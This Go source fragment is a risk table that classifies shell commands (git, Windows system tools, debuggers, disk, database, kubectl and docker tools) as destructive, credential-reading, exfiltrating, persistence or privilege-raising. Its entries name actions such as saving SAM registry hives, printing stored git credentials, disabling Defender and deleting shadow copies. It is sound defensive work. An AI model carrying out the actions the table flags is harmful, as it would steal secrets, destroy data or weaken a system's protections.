		{"reset", &cmdSpec{long: []string{"hard", "soft", "mixed", "merge", "keep", "quiet", "no-quiet", "recurse-submodules", "no-recurse-submodules",
			"pathspec-from-file=", "pathspec-file-nul", "patch", "no-refresh", "refresh", "intent-to-add"},
			opts: []optEffect{{names: []string{"--hard", "--merge", "--keep"}, class: ClassDestructive, why: "throws away uncommitted changes"}}}},
		{"clean", &cmdSpec{long: []string{"force", "dry-run", "quiet", "exclude=", "interactive"}, shortVal: "e",
			opts: []optEffect{{names: forceOpts, class: ClassDestructive, why: "deletes untracked files for good"}}}},
		{"branch", &cmdSpec{long: []string{"delete", "force", "move", "copy", "list", "all", "remotes", "verbose", "quiet", "track", "no-track",
			"set-upstream-to=", "unset-upstream", "edit-description", "contains", "no-contains", "merged", "no-merged", "sort=",
			"points-at=", "format=", "color", "no-color", "column", "no-column", "abbrev=", "no-abbrev", "ignore-case", "create-reflog", "show-current", "recurse-submodules"},
			shortVal: "u",
			opts: []optEffect{{names: []string{"-D"}, class: ClassDestructive, why: "deletes a branch even if it is not merged"},
				{names: []string{"-f", "--force"}, class: ClassDestructive, why: "force-deletes or overwrites a branch"},
				{names: []string{"-M", "-C"}, class: ClassDestructive, why: "overwrites an existing branch"}}}},
		// A tag names a release; unlike a branch's commits, a deleted
		// tag is in no reflog.
		// git add -f of a secret file adds what .gitignore keeps out:
		// the next push publishes it.
		{"add", &cmdSpec{opts: []optEffect{{match: secretPath, operand: true, when: gitAddForced, class: ClassExfiltrate,
			why: "adds a file whose name says it holds secrets, which .gitignore keeps out, to the repository: the next push publishes it"}}}},
		{"tag", &cmdSpec{long: []string{"delete"}, opts: []optEffect{{names: []string{"-d", "--delete"}, class: ClassDestructive, why: "deletes a tag, which no reflog keeps"}}}},
		{"stash", &cmdSpec{opts: []optEffect{{names: []string{"drop", "clear"}, operand: true, class: ClassDestructive, why: "throws away stashed changes for good"}}}},
		{"checkout", &cmdSpec{long: []string{"quiet", "progress", "no-progress", "force", "ours", "theirs", "track", "no-track", "guess", "no-guess",
			"detach", "orphan=", "ignore-skip-worktree-bits", "merge", "conflict=", "patch", "ignore-other-worktrees", "overwrite-ignore",
			"no-overwrite-ignore", "recurse-submodules", "no-recurse-submodules", "overlay", "no-overlay", "pathspec-from-file=", "pathspec-file-nul",
			"unified=", "inter-hunk-context="}, // --patch's context lines (-U N)
			shortVal: "bBU",
			opts: []optEffect{{names: forceOpts, class: ClassDestructive, why: "throws away uncommitted changes"},
				{match: everything, operand: true, class: ClassDestructive, why: "throws away every uncommitted change in the tree"},
				{names: []string{"-B"}, value: anyValue, class: ClassDestructive, why: "resets an existing branch to another commit, dropping the commits only it had"},
				{match: anyValue, operand: true, when: checkoutPaths, class: ClassDestructive, why: "throws away uncommitted changes to the paths it checks out, as git restore does"},
				{names: []string{"--pathspec-from-file"}, class: ClassDestructive, why: "throws away uncommitted changes to the paths a file lists"}}}},
		// checkout-index -f, the plumbing under checkout PATH, overwrites
		// files that exist (without it, it only writes missing ones).
		{"checkout-index", &cmdSpec{long: []string{"all", "force", "quiet", "no-create", "index", "stdin", "temp", "prefix=", "stage=",
			"ignore-skip-worktree-bits"},
			opts: []optEffect{{names: forceOpts, class: ClassDestructive, why: "overwrites files in the working tree with the index's, throwing away their uncommitted changes"}}}},
		// restore overwrites the working tree's files unless it only
		// unstages (--staged without --worktree).
		{"restore", &cmdSpec{long: []string{"source=", "patch", "worktree", "staged", "quiet", "progress", "no-progress", "ours", "theirs", "merge",
			"conflict=", "ignore-unmerged", "ignore-skip-worktree-bits", "recurse-submodules", "no-recurse-submodules", "overlay", "no-overlay",
			"pathspec-from-file=", "pathspec-file-nul", "unified=", "inter-hunk-context="}, shortVal: "sU",
			class: ClassDestructive, why: "throws away uncommitted changes to the files it restores", rare: &rareSpec{unless: []string{"--staged", "-S"}},
			opts: []optEffect{{names: []string{"--worktree", "-W"}, class: ClassDestructive, why: "throws away uncommitted changes to the files it restores"}}}},
		{"switch", &cmdSpec{long: []string{"create=", "force-create=", "detach", "guess", "no-guess", "force", "discard-changes", "merge", "conflict=",
			"quiet", "progress", "no-progress", "track", "no-track", "orphan=", "ignore-other-worktrees", "recurse-submodules", "no-recurse-submodules"},
			shortVal: "cC",
			opts: []optEffect{{names: []string{"-f", "--force", "--discard-changes"}, class: ClassDestructive, why: "throws away uncommitted changes"},
				{names: []string{"-C", "--force-create"}, value: anyValue, class: ClassDestructive, why: "resets an existing branch to another commit, dropping the commits only it had"}}}},
		{"rm", &cmdSpec{long: []string{"force", "dry-run", "cached", "ignore-unmatch", "quiet", "sparse", "pathspec-from-file=", "pathspec-file-nul"},
			opts: []optEffect{{names: forceOpts, class: ClassDestructive, why: "deletes files with uncommitted changes"}}}},
		{"filter-branch", &cmdSpec{class: ClassDestructive, why: "rewrites the repository's history"}},
		{"commit", &cmdSpec{long: []string{"no-verify", "verify", "message=", "all", "amend", "file=", "author=", "date=", "signoff", "quiet", "verbose", "dry-run", "fixup=", "squash=", "reuse-message=", "reedit-message=", "edit", "no-edit", "allow-empty", "allow-empty-message", "interactive", "patch", "include", "only", "untracked-files=", "cleanup=", "gpg-sign=", "no-gpg-sign", "trailer=", "template=", "reset-author", "porcelain", "short", "branch", "null", "status", "no-status", "pathspec-from-file=", "pathspec-file-nul"},
			shortVal: "mFcCtS",
			opts:     []optEffect{{names: []string{"-n", "--no-verify"}, class: ClassDestructive, why: "skips the repository's pre-commit checks"}}}},
		{"filter-repo", &cmdSpec{class: ClassDestructive, why: "rewrites the repository's history"}},
		{"apply", &cmdSpec{opts: []optEffect{{names: []string{"--unsafe-paths"}, class: ClassDestructive, why: "lets the patch write files outside the repository"}}}},
		{"read-tree", &cmdSpec{long: []string{"reset", "empty", "index-output=", "prefix=", "trivial", "aggressive", "dry-run", "no-sparse-checkout", "exclude-per-directory=", "recurse-submodules", "quiet"},
			opts: []optEffect{{names: []string{"--reset"}, class: ClassDestructive, why: "throws away staged changes (with -u the working tree's too: the plumbing form of reset --hard)"}}}},
		{"reflog", &cmdSpec{opts: []optEffect{{names: []string{"expire", "delete"}, operand: true, class: ClassDestructive, why: "deletes reflog entries, the last way back to lost commits"}}}},
		{"update-ref", &cmdSpec{opts: []optEffect{{names: []string{"-d"}, class: ClassDestructive, why: "deletes a ref directly"}}}},
		{"gc", &cmdSpec{long: []string{"aggressive", "auto", "prune=", "no-prune", "quiet", "force", "keep-largest-pack", "cruft", "no-cruft"}, opts: []optEffect{{names: []string{"--prune"}, class: ClassDestructive, why: "prunes unreachable commits, the last copy of lost work"}}}},
		{"clone", &cmdSpec{long: []string{"template=", "local", "shared", "no-hardlinks", "quiet", "verbose", "progress", "no-checkout", "bare",
			"mirror", "origin=", "branch=", "upload-pack=", "reference=", "reference-if-able=", "dissociate", "separate-git-dir=",
			"depth=", "shallow-since=", "shallow-exclude=", "single-branch", "no-single-branch", "no-tags", "recurse-submodules",
			"shallow-submodules", "no-shallow-submodules", "remote-submodules", "no-remote-submodules", "jobs=", "sparse", "filter=",
			"also-filter-submodules", "config=", "server-option=", "ipv4", "ipv6", "bundle-uri=", "reject-shallow", "no-reject-shallow", "ref-format="},
			shortVal: "obucj", effect: EffectNetwork | EffectWrites}},
		{"fetch", &cmdSpec{effect: EffectNetwork}},
		{"pull", &cmdSpec{effect: EffectNetwork}},
		{"ls-remote", &cmdSpec{effect: EffectNetwork}},
		{"send-email", &cmdSpec{effect: EffectNetwork}},
		{"config", &cmdSpec{opts: []optEffect{{names: []string{"core.hooksPath", "core.fsmonitor", "core.sshCommand", "core.pager", "core.editor", "alias.", "filter.", "diff.external", "credential.helper", "include.path", "includeIf."}, operand: true, prefix: true, when: gitConfigSets, class: ClassPersistence, why: "sets git configuration that runs a program in every later git command"},
			{match: remoteURLKey, operand: true, when: gitConfigSets, class: ClassExfiltrate, why: "points a remote at another URL, where every later push sends the repository"}}}},
		{"credential", &cmdSpec{opts: []optEffect{{names: []string{"fill"}, operand: true, class: ClassCredential, why: "prints stored git credentials"}}}},
		// The credential helpers answer "get" with the stored password.
		{"credential-store", gitHelperGet}, {"credential-cache", gitHelperGet}, {"credential-osxkeychain", gitHelperGet},
		{"credential-libsecret", gitHelperGet}, {"credential-manager", gitHelperGet}, {"credential-manager-core", gitHelperGet}, {"credential-wincred", gitHelperGet},
		{"credential-cache", &cmdSpec{opts: []optEffect{{names: []string{"get"}, operand: true, class: ClassCredential, why: "prints cached git credentials"}}}},
		{"worktree", &cmdSpec{subs: subcommands{{"remove", &cmdSpec{long: []string{"force"},
			opts: []optEffect{{names: forceOpts, class: ClassDestructive, why: "deletes a worktree with its uncommitted changes"}}}}}}},
		// deinit -f and update -f throw away submodules' local changes.
		{"submodule", &cmdSpec{long: []string{"force"},
			opts: []optEffect{{names: forceOpts, class: ClassDestructive, why: "throws away submodules' working trees or their uncommitted changes"}}}},
		// A remote pointed at another URL: every later push, which a rule
		// allows as routine, sends the repository there.
		{"remote", &cmdSpec{subs: subcommands{{"set-url", &cmdSpec{long: []string{"push", "add", "delete"},
			class: ClassExfiltrate, why: "points a remote at another URL, where every later push sends the repository"}}}}},
	}}

// riskCommands is the risk family of the command table (cmdSpecs): the
// effects and risk classes of commands and their options.
func riskCommands() map[string]*cmdSpec {
	return map[string]*cmdSpec{
		"git": gitSpec,
		"rm": {long: []string{"force", "interactive=", "one-file-system", "no-preserve-root", "preserve-root=", "recursive", "dir", "verbose", "help", "version"},
			effect: EffectDeletes, deletes: true, rare: &rareSpec{recursive: []string{"-r", "-R", "--recursive"}}},
		"rmdir": {effect: EffectDeletes, deletes: true},
		// Windows' own programs, which a Bash tool on Windows (Git Bash,
		// MSYS2, WSL's interop) runs as it runs any other ("reg.exe" is
		// "reg"): those that make a program start by itself, run code
		// handed to them, open the machine up or wipe what recovery needs.
		// Their switches are "/x" or "-x", in any case; their query forms
		// (reg query, schtasks /query, sc query, wmic … get) stay reads.
		"cmd": {probe: true, class: ClassInlineCode, why: "runs a Windows command line, which is not read here"},
		// cmd's own deletes and PowerShell's cmdlets, for the hosts whose
		// shell tool runs them (a cmdlet's name in any case is the
		// lower-case name here). They exist in no POSIX shell, so they
		// stop nothing there; aliases that are other programs' names
		// (iex is Elixir's shell, ri Ruby's docs) are left out.
		"del": winTreeDelete, "erase": winTreeDelete, "rd": winTreeDelete,
		"remove-item":      psRemove,
		"clear-recyclebin": {probe: true, class: ClassDestructive, why: "empties the recycle bin for good", rare: &rareSpec{unless: []string{"-WhatIf", "-whatif", "-Whatif"}}},
		"format-volume":    psDisk, "clear-disk": psDisk, "initialize-disk": psDisk, "remove-partition": psDisk, "reset-physicaldisk": psDisk, "remove-virtualdisk": psDisk,
		"remove-wmiobject": psWMIRemove, "rwmi": psWMIRemove, "remove-ciminstance": psWMIRemove, "rcim": psWMIRemove,
		"set-mppreference":       {probe: true, opts: []optEffect{{operand: true, match: anyWord, when: defenderOffArgs, class: ClassPrivilege, why: "turns Microsoft Defender's protection off, or excludes a path from it"}}},
		"add-mppreference":       {probe: true, opts: []optEffect{{operand: true, match: anyWord, when: defenderOffArgs, class: ClassPrivilege, why: "excludes a path or program from Microsoft Defender's scans"}}},
		"set-executionpolicy":    {probe: true, opts: []optEffect{{operand: true, match: execPolicyOff, when: notProcessScope, class: ClassPrivilege, why: "lets every PowerShell script run, signed or not"}}},
		"disable-bitlocker":      {probe: true, class: ClassPrivilege, why: "decrypts a drive BitLocker protects"},
		"clear-eventlog":         {probe: true, class: ClassPrivilege, why: "clears a Windows event log"},
		"set-netfirewallprofile": {probe: true, opts: []optEffect{{operand: true, match: isFalseWord, when: firewallEnabledArg, class: ClassPrivilege, why: "turns the Windows firewall off"}}},
		"set-itemproperty":       psRegistry, "new-itemproperty": psRegistry, "remove-itemproperty": psRegistry,
		"invoke-expression": {probe: true, class: ClassInlineCode, why: "runs a PowerShell string as code"},
		"forfiles":          {probe: true, opts: []optEffect{{operand: true, match: forfilesCommand, class: ClassInlineCode, why: "runs a Windows command line for every file it finds"}}},
		"reg": {probe: true, opts: []optEffect{
			{operand: true, first: true, match: regChanges, class: ClassPersistence, why: "changes the Windows registry, where start-up programs, services and security settings are kept"},
			{operand: true, first: true, match: regSaves, class: ClassCredential, why: "saves a registry hive (SAM's password hashes, the LSA's secrets) to a file"}}},
		"schtasks":  {probe: true, opts: []optEffect{{operand: true, match: schtasksCreates, class: ClassPersistence, why: "schedules a program to run later by itself"}}},
		"bitsadmin": {probe: true, opts: []optEffect{{operand: true, match: bitsadminNotifies, class: ClassPersistence, why: "makes a transfer job start a program when it ends"}}},
		"sc": {probe: true, opts: []optEffect{
			{operand: true, first: true, match: scChanges, class: ClassPersistence, why: "creates or changes a Windows service, which runs as SYSTEM"},
			{operand: true, first: true, match: scStops, class: ClassPrivilege, why: "stops or deletes a Windows service (a security service among them)"}}},
		"net": {probe: true, opts: []optEffect{{operand: true, match: winAdd, when: netAddsAccount, class: ClassPersistence, why: "adds a Windows account, or adds one to a group (administrators)"}}},
		"wmic": {probe: true, opts: []optEffect{
			{operand: true, match: wmicCreates, class: ClassInlineCode, why: "starts a process from a Windows command line, which is not read here"},
			{operand: true, match: wmicShadows, when: wmicDeletes, class: ClassDestructive, why: "deletes the volume shadow copies recovery needs"}}},
		"vssadmin": {probe: true, opts: []optEffect{{operand: true, first: true, match: vssadminDeletes, class: ClassDestructive, why: "deletes the volume shadow copies recovery needs"}}},
		"wbadmin":  {probe: true, opts: []optEffect{{operand: true, first: true, match: wbadminDeletes, class: ClassDestructive, why: "deletes Windows backups"}}},
		"bcdedit":  {probe: true, opts: []optEffect{{operand: true, match: bcdeditSets, class: ClassPrivilege, why: "changes how Windows boots (recovery, safe mode, driver signing)"}}},
		"wevtutil": {probe: true, opts: []optEffect{{operand: true, first: true, match: wevtutilClears, class: ClassPrivilege, why: "clears or turns off a Windows event log"}}},
		"netsh":    {probe: true, opts: []optEffect{{operand: true, match: netshOff, when: netshFirewall, class: ClassPrivilege, why: "turns the Windows firewall off"}}},
		"rundll32": {probe: true, class: ClassInlineCode, why: "runs a function of a DLL, code nobody reviewed here"},
		"regsvr32": {probe: true, class: ClassInlineCode, why: "runs a DLL's registration code, or a scriptlet's from a URL (/i:URL)"},
		"mshta":    {probe: true, class: ClassInlineCode, why: "runs an HTML application's scripts"},
		"msiexec":  {probe: true, opts: []optEffect{{operand: true, match: msiexecInstalls, class: ClassSupplyChain, why: "installs a Windows package, whose custom actions run as SYSTEM"}}},
		"takeown":  {probe: true, class: ClassPrivilege, why: "takes ownership of files, system files among them"},
		"diskpart": {probe: true, class: ClassDestructive, why: "partitions, cleans and formats disks", rare: &rareSpec{unless: []string{"/?"}}},
		"format":   {probe: true, opts: []optEffect{{operand: true, match: driveLetter, class: ClassDestructive, why: "formats a drive, erasing everything on it"}}},

		// Another running process's memory holds its secrets (tokens,
		// keys, decrypted passwords): a debugger or tracer attached to it
		// reads them and can change what it runs, a core dump writes them
		// out. Debugging or tracing a program the command starts itself
		// (gdb ./app, strace -f make) stays a plain run.
		"gdb":      {opts: []optEffect{{names: []string{"-p", "--pid", "-pid"}, class: ClassCredential, why: attachesWhy}}},
		"lldb":     {probe: true, long: []string{"attach-pid=", "attach-name="}, shortVal: "pn", opts: []optEffect{{names: []string{"-p", "--attach-pid", "-n", "--attach-name"}, class: ClassCredential, why: attachesWhy}}},
		"strace":   {opts: []optEffect{{names: []string{"-p", "--attach"}, class: ClassCredential, why: "traces a running process, whose reads and writes (secrets included) it prints"}}},
		"ltrace":   {opts: []optEffect{{names: []string{"-p"}, class: ClassCredential, why: "traces a running process, whose library calls and their arguments (secrets included) it prints"}}},
		"gcore":    {probe: true, class: ClassCredential, why: "writes a running process's memory, secrets included, to a core file"},
		"procdump": {probe: true, class: ClassCredential, why: "writes a running process's memory, secrets included, to a dump file"},
		// keyctl print, read and pipe give a kernel keyring key's payload.
		"keyctl": {probe: true, opts: []optEffect{{names: []string{"print", "read", "pipe"}, operand: true, first: true, class: ClassCredential, why: "prints a key's secret payload from the kernel's keyring"}}},
		// Node's rm -rf, run by npm scripts and npx: every operand is
		// deleted with its tree.
		"rimraf": {long: []string{"preserve-root", "no-preserve-root", "glob", "no-glob", "verbose", "no-verbose", "interactive", "no-interactive", "impl=", "help", "version"},
			wrap: &wrapSpec{short: "Gvih"}, effect: EffectDeletes, deletes: true, treeDeletes: true},
		"del-cli": {long: []string{"force", "dry-run", "dot", "verbose", "help", "version"}, wrap: &wrapSpec{short: "fdv"},
			effect: EffectDeletes, deletes: true, treeDeletes: true},
		// mv takes its sources away: a whole home, / or a system directory
		// moved elsewhere is gone from where the system looks for it.
		"mv": {shortVal: "tS", long: []string{"target-directory=", "suffix=", "backup=", "force", "interactive", "no-clobber", "no-target-directory", "strip-trailing-slashes", "update=", "verbose", "exchange", "no-copy"},
			opts: []optEffect{{match: systemTree, operand: true, sources: true, class: ClassDestructive, why: "moves a whole home directory, / or a system directory away"}}},
		"unlink": {effect: EffectDeletes, deletes: true},
		"shred": {long: []string{"force", "iterations=", "random-source=", "size=", "remove=", "verbose", "exact", "zero", "help", "version"},
			shortVal: "ns", effect: EffectDeletes, deletes: true},
		"truncate": {long: []string{"no-create", "io-blocks", "reference=", "size=", "help", "version"}, shortVal: "rs", effect: EffectDeletes, deletes: true},
		"chmod": {long: []string{"changes", "no-preserve-root", "preserve-root", "quiet", "silent", "reference=", "recursive", "verbose", "help", "version"},
			rare: &rareSpec{recursive: []string{"-R", "--recursive"}, dashOperand: dashMode},
			opts: []optEffect{{match: setuidMode, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "sets the setuid or setgid bit, so the program runs with its owner's rights"}}},
		"chown": {long: []string{"changes", "dereference", "no-dereference", "from=", "no-preserve-root", "preserve-root", "quiet", "silent", "reference=", "recursive", "verbose", "help", "version"},
			rare: &rareSpec{recursive: []string{"-R", "--recursive"}},
			opts: []optEffect{{match: rootOwner, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "hands files to root"}}},
		"chgrp": {long: []string{"changes", "dereference", "no-dereference", "no-preserve-root", "preserve-root", "quiet", "silent", "reference=", "recursive", "verbose", "help", "version"},
			rare: &rareSpec{recursive: []string{"-R", "--recursive"}}},

		// Disks and databases.
		"wipefs":     {class: ClassDestructive, why: "erases file system signatures from a disk"},
		"fdisk":      {class: ClassDestructive, why: "rewrites a disk's partition table", rare: &rareSpec{unless: []string{"-l", "--list"}}},
		"sfdisk":     {class: ClassDestructive, why: "rewrites a disk's partition table", rare: &rareSpec{unless: []string{"-l", "--list", "-d", "--dump"}}},
		"parted":     {class: ClassDestructive, why: "rewrites a disk's partition table", rare: &rareSpec{unless: []string{"-l", "--list"}}},
		"blkdiscard": {class: ClassDestructive, why: "discards every block of a device"},
		// macOS's disk tool; its verbs are case-insensitive.
		"diskutil": {opts: []optEffect{{match: diskutilErases, operand: true, first: true, class: ClassDestructive, why: "erases or repartitions a disk or volume, destroying the data on it"}},
			subs: subcommands{{"apfs", &cmdSpec{opts: []optEffect{{match: diskutilErases, operand: true, first: true, class: ClassDestructive, why: "deletes or erases an APFS container or volume, destroying the data on it"}}}},
				{"cs", &cmdSpec{opts: []optEffect{{match: diskutilErases, operand: true, first: true, class: ClassDestructive, why: "deletes a Core Storage volume, destroying the data on it"}}}},
				{"appleRAID", &cmdSpec{opts: []optEffect{{match: diskutilErases, operand: true, first: true, class: ClassDestructive, why: "deletes a RAID set, destroying the data on it"}}}}}},
		"hdparm": {opts: []optEffect{{names: []string{"--security-erase", "--security-erase-enhanced", "--trim-sector-ranges", "--trim-sector-ranges-stdin", "--fwdownload", "--make-bad-sector"},
			class: ClassDestructive, why: "erases or rewrites a disk"}}},
		"cryptsetup": {opts: []optEffect{{names: []string{"luksFormat", "erase", "luksErase", "luksKillSlot", "luksRemoveKey", "reencrypt"}, operand: true,
			class: ClassDestructive, why: "formats a disk or destroys its encryption keys, so its data cannot be read again"}}},
		"lvremove": {class: ClassDestructive, why: "deletes logical volumes and their data"},
		"vgremove": {class: ClassDestructive, why: "deletes volume groups and the volumes in them"},
		"pvremove": {class: ClassDestructive, why: "wipes a disk's LVM label"},
		"dropdb":   {class: ClassDestructive, why: "drops a database"},
		"dropuser": {class: ClassDestructive, why: "drops a database role"},
		"psql": {effect: EffectNetwork, long: []string{"command=", "dbname=", "file=", "host=", "port=", "username=", "output=", "set=", "variable="}, shortVal: "cdfhpUov",
			opts: []optEffect{{names: []string{"-c", "--command"}, value: sqlDestroys, class: ClassDestructive, why: "runs SQL that drops or empties data"},
				{names: []string{"-v", "--set", "--variable"}, value: sqlDestroys, class: ClassDestructive, why: "sets a variable to SQL that drops or empties data, which :NAME runs"},
				{names: []string{"-c", "--command"}, value: clientShell, effect: EffectRuns, class: ClassInlineCode, why: "runs a shell command from the SQL client"},
				{names: []string{"-f", "--file"}, value: sqlFile, class: ClassDestructive, why: "runs SQL from a file, statements nobody reviewed here"}}},
		"mysql": {effect: EffectNetwork, long: []string{"execute=", "database=", "host=", "port=", "user=", "password="}, shortVal: "eDhPuS",
			opts: []optEffect{{names: []string{"-e", "--execute"}, value: sqlDestroys, class: ClassDestructive, why: "runs SQL that drops or empties data"},
				{names: []string{"-e", "--execute"}, value: clientShell, effect: EffectRuns, class: ClassInlineCode, why: "runs a shell command from the SQL client"}}},
		"mariadb": {effect: EffectNetwork, long: []string{"execute=", "database=", "host=", "port=", "user=", "password="}, shortVal: "eDhPuS",
			opts: []optEffect{{names: []string{"-e", "--execute"}, value: sqlDestroys, class: ClassDestructive, why: "runs SQL that drops or empties data"},
				{names: []string{"-e", "--execute"}, value: clientShell, effect: EffectRuns, class: ClassInlineCode, why: "runs a shell command from the SQL client"}}},
		"mysqladmin": {effect: EffectNetwork, opts: []optEffect{{names: []string{"drop"}, operand: true, class: ClassDestructive, why: "drops a database"}}},
		"sqlite3": {opts: []optEffect{{match: sqlDestroys, operand: true, class: ClassDestructive, why: "runs SQL that drops or empties data"},
			{match: sqliteShell, operand: true, effect: EffectRuns, class: ClassInlineCode, why: "runs a shell command or loads a library from the SQL client"},
			{names: []string{"-cmd"}, value: sqliteShell, effect: EffectRuns, class: ClassInlineCode, why: "runs a shell command or loads a library from the SQL client"}}},
		"duckdb": {opts: []optEffect{sqlValue("-c", "-s"), sqlOperand}},
		// The other tools that take SQL in an option or an operand.
		"sqlcmd":            {effect: EffectNetwork, shortVal: "QqSdUPiovshHl", opts: []optEffect{sqlValue("-Q", "-q")}},
		"clickhouse-client": {effect: EffectNetwork, long: []string{"query="}, shortVal: "q", opts: []optEffect{sqlValue("-q", "--query")}},
		"snowsql":           {effect: EffectNetwork, long: []string{"query="}, shortVal: "q", opts: []optEffect{sqlValue("-q", "--query")}},
		"trino":             {effect: EffectNetwork, long: []string{"execute="}, opts: []optEffect{sqlValue("--execute")}},
		"presto":            {effect: EffectNetwork, long: []string{"execute="}, opts: []optEffect{sqlValue("--execute")}},
		"spark-sql":         {shortVal: "e", opts: []optEffect{sqlValue("-e")}},
		"beeline":           {effect: EffectNetwork, shortVal: "eu", opts: []optEffect{sqlValue("-e")}},
		"hive":              {shortVal: "e", opts: []optEffect{sqlValue("-e")}},
		"usql":              {effect: EffectNetwork, long: []string{"command="}, shortVal: "c", opts: []optEffect{sqlValue("-c", "--command")}},
		"cockroach":         {effect: EffectNetwork, subs: subcommands{{"sql", &cmdSpec{long: []string{"execute="}, shortVal: "e", opts: []optEffect{sqlValue("-e", "--execute")}}}}},
		"bq":                {effect: EffectNetwork, subs: subcommands{{"query", &cmdSpec{opts: []optEffect{sqlOperand}}}}},
		"mongo":             mongoSpec, "mongosh": mongoSpec,
		"cqlsh": {effect: EffectNetwork, long: []string{"execute="}, shortVal: "eu", opts: []optEffect{{names: []string{"-e", "--execute"}, value: sqlDestroys, class: ClassDestructive, why: "runs CQL that drops or empties data"}}},
		"redis-cli": {effect: EffectNetwork, opts: []optEffect{{names: []string{"flushall", "flushdb", "FLUSHALL", "FLUSHDB"}, operand: true, class: ClassDestructive, why: "deletes every key of the database"},
			{names: []string{"dir", "dbfilename", "DIR", "DBFILENAME"}, operand: true, when: redisConfigSet, class: ClassPersistence, why: "points the server's dump file elsewhere, so its next save writes a file the server's user runs or trusts (cron, authorized_keys)"},
			{names: []string{"MODULE", "module"}, operand: true, when: redisModuleLoad, effect: EffectRuns, class: ClassInlineCode, why: "loads a library into the server"}}},
		"terraform": terraformSpec, "tofu": terraformSpec, "terragrunt": terragruntSpec(),
		"pulumi": {subs: subcommands{{"destroy", &cmdSpec{class: ClassDestructive, why: "destroys the stack's infrastructure"}},
			{"stack", &cmdSpec{opts: []optEffect{{names: []string{"rm"}, operand: true, class: ClassDestructive, why: "deletes a stack"}}}},
			{"state", &cmdSpec{opts: []optEffect{{names: []string{"delete", "unprotect"}, operand: true, class: ClassDestructive, why: "removes resources from the stack's state or their protection against deletion"}}}}}},
		"helm": {effect: EffectNetwork, subs: subcommands{{"uninstall", helmDelete}, {"delete", helmDelete}, {"del", helmDelete}, {"un", helmDelete},
			{"install", helmInstall}, {"upgrade", helmInstall}, {"template", helmInstall}, {"push", publish},
			// A release's values and rendered manifests hold the
			// passwords it was given and its Secrets' data.
			{"get", &cmdSpec{opts: []optEffect{{names: []string{"values", "manifest", "all", "hooks"}, operand: true, class: ClassCredential,
				why: "prints a release's values or manifests, with the passwords and Secrets in them"}}}}}},
		"kubectl": {effect: EffectNetwork, subs: subcommands{
			{"delete", &cmdSpec{class: ClassDestructive, why: "deletes cluster resources"}},
			// port-forward on an address other than loopback serves a
			// cluster service to the network.
			{"port-forward", &cmdSpec{long: []string{"address=", "pod-running-timeout="}, opts: []optEffect{{names: []string{"--address"}, value: notLoopback,
				class: ClassExfiltrate, why: "serves a cluster service to every host that reaches the address"}}}},
			{"proxy", &cmdSpec{long: []string{"www=", "www-prefix=", "address=", "port=", "accept-hosts="}, shortVal: "wPp", opts: []optEffect{servesDir("--www", "-w"),
				{names: []string{"--address"}, value: notLoopback, class: ClassExfiltrate, why: "serves the cluster's API, with this user's credentials and no login, to every host that reaches the address"}}}},
			{"drain", &cmdSpec{class: ClassDestructive, why: "evicts every workload from a node"}},
			{"replace", &cmdSpec{opts: []optEffect{{names: []string{"--force"}, class: ClassDestructive, why: "deletes and re-creates resources"}}}},
			{"get", &cmdSpec{opts: []optEffect{{match: k8sSecret, operand: true, class: ClassCredential, why: "prints cluster secrets"}}}},
			{"create", &cmdSpec{shortVal: "f", long: []string{"filename="}, opts: []optEffect{{names: []string{"clusterrolebinding", "rolebinding"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "grants a cluster role"},
				{names: []string{"token"}, operand: true, first: true, class: ClassCredential, why: "mints and prints a service account's token"},
				{names: []string{"-f", "--filename"}, value: remoteURL, class: ClassSupplyChain, why: "applies manifests fetched from a URL to the cluster"},
				{names: []string{"--from-file", "--from-env-file"}, value: keyedCredential, effect: EffectNetwork, class: ClassExfiltrate, why: "copies a credential file of this machine into the cluster, where whoever reads Secrets there reads it"}}}},
			{"exec", &cmdSpec{effect: EffectRuns}}, {"cp", &cmdSpec{effect: EffectWrites, opts: []optEffect{sendsCredential, sendsHome}}},
			{"run", &cmdSpec{long: []string{"overrides=", "image=", "privileged", "restart=", "rm", "stdin", "tty", "command", "env=", "labels=", "port=", "namespace="},
				shortVal: "nl", effect: EffectRuns,
				opts: []optEffect{{names: []string{"--privileged"}, effect: EffectPrivilege, class: ClassPrivilege, why: "runs a privileged pod, which has root's powers on its node"},
					{names: []string{"--overrides"}, value: hostPodSpec, effect: EffectPrivilege, class: ClassPrivilege, why: "runs a pod that shares its node's processes, network or files, or is privileged"}}}},
			{"config", &cmdSpec{opts: []optEffect{{names: []string{"--raw", "--flatten"}, class: ClassCredential, why: "prints cluster credentials"}}}},
			// apply and create -f URL: manifests nobody vetted, applied to
			// the cluster as they are.
			{"apply", &cmdSpec{shortVal: "fkn", long: []string{"filename=", "kustomize=", "namespace=", "prune", "server-side", "force", "dry-run="},
				opts: []optEffect{{names: []string{"-f", "--filename"}, value: remoteURL, class: ClassSupplyChain, why: "applies manifests fetched from a URL to the cluster"},
					{names: []string{"--prune"}, class: ClassDestructive, why: "deletes cluster resources the manifests no longer list"}}}},
			{"patch", &cmdSpec{shortVal: "pn", long: []string{"patch=", "type=", "namespace="},
				opts: []optEffect{{names: []string{"-p", "--patch"}, value: hostPodSpec, effect: EffectPrivilege, class: ClassPrivilege, why: "patches a workload to share its node's processes, network or files, or to run privileged"}}}},
			{"scale", &cmdSpec{long: []string{"replicas="}, opts: []optEffect{{names: []string{"--replicas"}, value: isZero, class: ClassDestructive, why: "scales a workload to zero, taking it down"}}}},
		}},
		"docker": {effect: EffectRuns, subs: subcommands{
			{"run", dockerRun}, {"create", dockerRun},
			{"cp", &cmdSpec{opts: []optEffect{{match: credentialRef, operand: true, sources: true, class: ClassCredential, why: "copies a credential file into a container, where whatever runs there reads it"}}}},
			{"build", buildContext},
			{"system", &cmdSpec{opts: []optEffect{{names: []string{"prune"}, operand: true, class: ClassDestructive, why: "deletes unused containers, images and volumes"}}}},
			{"volume", &cmdSpec{opts: []optEffect{{names: []string{"rm", "prune"}, operand: true, class: ClassDestructive, why: "deletes volumes and their data"}}}},
			{"image", dockerPrune}, {"container", dockerPrune}, {"network", dockerPrune}, {"builder", dockerPrune}, {"buildx", dockerPrune},
			{"compose", composeSpec},
			{"push", publish},
			{"stop", gateStop}, {"kill", gateStop}, {"rm", containerRm}, {"pause", gateStop},
		}},
		"docker-compose": composeSpec,
		"nerdctl":        {effect: EffectRuns, subs: subcommands{{"run", dockerRun}, {"create", dockerRun}}},
